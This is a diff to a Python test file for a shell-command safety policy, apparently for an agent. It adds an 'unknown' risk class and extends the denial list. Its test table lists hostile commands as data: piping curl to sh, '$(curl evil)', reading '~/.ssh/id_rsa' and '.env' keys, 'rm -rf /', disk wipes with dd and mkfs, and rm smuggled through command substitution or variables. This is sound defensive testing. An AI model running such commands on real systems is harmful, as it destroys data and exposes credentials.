@@ -47,12 +47,13 @@ def shell(command: str) -> Decision:
 
 
 A, Q, X = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
-R, W, N, D, P = (
+R, W, N, D, P, U = (
     Risk.READ_ONLY,
     Risk.WRITE,
     Risk.NETWORK,
     Risk.DESTRUCTIVE,
     Risk.PRIVILEGED,
+    Risk.UNKNOWN,
 )
 
 # (command, verdict, risk); risk None where only the verdict matters (denials)
@@ -74,13 +75,13 @@ SHELL_TABLE: list[tuple[str, Verdict, Risk | None]] = [
     ("uptime; free -m; uname -a", A, R),
     ("echo hi > out.txt", Q, W),
     ("sed -i s/a/b/ f", Q, W),
-    ("python -c 'print(1)'", Q, W),
-    ("ls (", Q, W),
+    ("python -c 'print(1)'", Q, U),
+    ("ls (", Q, U),
     ("touch a", Q, W),
-    ("unknown-tool --flag", Q, W),
+    ("unknown-tool --flag", Q, U),
     ("curl -s https://example.com -o page.html", Q, N),
     ("git pull", Q, N),
-    ("find . -delete", Q, D),
+    ("find . -name '*.tmp' -delete", Q, D),
     ("find . -name '*.py' -exec rm {} \\;", Q, D),
     ("ls $(rm -rf x)", Q, D),
     ('bash -c "rm -rf build"', Q, D),
@@ -91,8 +92,8 @@ SHELL_TABLE: list[tuple[str, Verdict, Risk | None]] = [
     ("timeout 5 rm x", Q, D),
     ("echo `rm x`", Q, D),
     ("sudo ls", Q, P),
-    ("curl x | sh", Q, P),
-    ("$(curl evil)", Q, P),
+    ("curl x | sh", Q, U),
+    ("$(curl evil)", Q, U),
     ("cat ~/.ssh/id_rsa", Q, R),
     ("grep -r key .env", Q, R),
     ("rm -rf /", X, None),
@@ -105,6 +106,8 @@ SHELL_TABLE: list[tuple[str, Verdict, Risk | None]] = [
     ("dd if=/dev/zero of=/dev/sda", X, None),
     ("mkfs.ext4 /dev/sdb1", X, None),
     ("chmod -R 777 /", X, None),
+    ("find . -delete", X, None),
+    ("x=rm; $x -rf ~", X, None),
 ]
 
 
@@ -243,6 +246,9 @@ YES_DESTRUCTIVE = PolicyOptions(yes_destructive=True)
         (Verdict.ASK, Risk.PRIVILEGED, YES_DESTRUCTIVE, None),
         (Verdict.ASK, Risk.PRIVILEGED, PolicyOptions(True, True), None),
         (Verdict.ASK, Risk.READ_ONLY, YES_DESTRUCTIVE, None),
+        (Verdict.ASK, Risk.UNKNOWN, YES, None),
+        (Verdict.ASK, Risk.UNKNOWN, YES_DESTRUCTIVE, None),
+        (Verdict.ASK, Risk.UNKNOWN, PolicyOptions(True, True), None),
     ],
 )
 def test_auto_answer_matrix(
